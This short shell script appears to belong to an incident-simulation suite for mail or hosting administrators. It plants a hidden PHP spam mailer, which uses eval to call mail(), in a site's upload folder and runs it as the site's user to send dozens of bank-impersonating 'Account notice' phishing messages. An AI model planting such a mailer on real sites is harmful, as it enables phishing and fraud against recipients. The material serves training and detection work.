# SPDX-License-Identifier: GPL-3.0-or-later
# A mailer lies in a site's upload folder and runs from a shell, without a web request, as the site's own user.

incident_needs() { php_marks=log; } # else nothing tells which file it is
play_incident() {
  local n id script; honest_traffic
  script=$(hidden_place "$culprit")/$(odd_name).php
  source_is website-hacked "$culprit" '' "$script" ''
  drop "$script" <<'END'
<?php
eval('mail($argv[1], $argv[3], "Click here\n", "From: $argv[4]\r\nMessage-ID: <$argv[2]>\r\n");');
END
  for n in $(seq $((35 + $(roll 25)))); do
    id=$(new_id).$n@$culprit; mark 1 "$id"
    as_user "$culprit_uid" php "$script" "$(stranger)" "$id" "Account notice $(roll 99999)" "$(bank)"
    between
  done
}
